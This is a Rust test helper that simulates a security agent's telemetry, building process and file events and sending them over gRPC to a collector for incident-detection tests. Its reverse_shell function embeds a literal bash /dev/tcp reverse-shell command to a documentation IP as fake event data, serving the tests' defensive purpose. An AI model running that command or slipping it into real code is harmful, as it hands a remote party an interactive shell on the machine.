//! Telemetry as an agent sends it, from a simulated device
//! ([`crate::fleet_sim`]): events built by hand, sent over a real gRPC
//! stream with the device's certificate, each batch waited for until the
//! collector stored it. For tests and benches that need known events
//! (incidents, the console) without the kernel.

use std::time::{SystemTime, UNIX_EPOCH};

use anyhow::{ensure, Context as _, Result};
use proto::telemetry::{
    event::Kind, telemetry_client::TelemetryClient, AgentIdentity, Ancestor, Event, EventBatch,
    FileActivity, ProcessExec,
};
use tokio_stream::wrappers::ReceiverStream;

use crate::{fleet_sim::SimulatedAgent, stack::Stack};

/// Wall-clock time, nanoseconds since the epoch.
pub fn now_ns() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(0)
}

/// One device's telemetry, as its agent would send it.
pub struct Device<'a> {
    stack: &'a Stack,
    agent: &'a SimulatedAgent,
    boot_id: String,
    seq: u64,
}

impl<'a> Device<'a> {
    pub fn new(stack: &'a Stack, agent: &'a SimulatedAgent) -> Self {
        Device {
            stack,
            agent,
            boot_id: uuid::Uuid::new_v4().to_string(),
            seq: 0,
        }
    }

    pub fn event(&mut self, time_ns: u64, kind: Kind) -> Event {
        self.seq += 1;
        Event {
            seq: self.seq,
            time_unix_ns: time_ns,
            ancestors: vec![
                Ancestor {
                    pid: 900,
                    exe: "/usr/bin/python3.11".into(),
                    argv0: "python3".into(),
                    start_unix_ns: 0,
                },
                Ancestor {
                    pid: 1,
                    exe: "/usr/lib/systemd/systemd".into(),
                    argv0: "/sbin/init".into(),
                    start_unix_ns: 0,
                },
            ],
            kind: Some(kind),
        }
    }

    pub fn exec(&mut self, time_ns: u64, pid: u32, exe: &str, argv: &[&str]) -> Event {
        self.event(
            time_ns,
            Kind::Exec(ProcessExec {
                pid,
                tid: pid,
                ppid: 900,
                filename: exe.into(),
                argv: argv.iter().map(|a| (*a).to_owned()).collect(),
                user_name: "staff".into(),
                uid: 1000,
                process_start_unix_ns: time_ns,
                ..ProcessExec::default()
            }),
        )
    }

    pub fn file(&mut self, time_ns: u64, action: &str, exe: &str, path: &str, mode: u32) -> Event {
        self.event(
            time_ns,
            Kind::File(FileActivity {
                action: action.into(),
                pid: 950,
                uid: 1000,
                path: path.into(),
                mode,
                open_flags: if action == "open_write" { 0o1101 } else { 0 },
                exe: exe.into(),
                user_name: "staff".into(),
                ..FileActivity::default()
            }),
        )
    }

    /// Sends one batch over a telemetry stream and waits until it is stored.
    pub async fn send(&mut self, events: Vec<Event>) -> Result<()> {
        let count = events.len() as u32;
        let channel =
            zt_grpc_tls::channel(&self.stack.collector_url(), self.agent.client_tls()?).await?;
        let mut client = TelemetryClient::new(channel);
        let (tx, rx) = tokio::sync::mpsc::channel(1);
        tx.send(EventBatch {
            batch_seq: self.seq,
            agent: Some(AgentIdentity {
                device_id: self.agent.device_id.clone(),
                boot_id: self.boot_id.clone(),
                agent_version: "incidents-test".into(),
                ..AgentIdentity::default()
            }),
            events,
        })
        .await?;
        drop(tx);
        let mut acks = client.stream(ReceiverStream::new(rx)).await?.into_inner();
        let ack = acks.message().await?.context("no acknowledgement")?;
        ensure!(
            ack.stored == count && ack.rejected == 0,
            "batch not stored whole: {ack:?}"
        );
        Ok(())
    }

    /// A reverse shell: python (pid 900) runs bash on /dev/tcp.
    pub async fn reverse_shell(&mut self, pid: u32) -> Result<()> {
        let event = self.exec(
            now_ns(),
            pid,
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        );
        self.send(vec![event]).await
    }
}
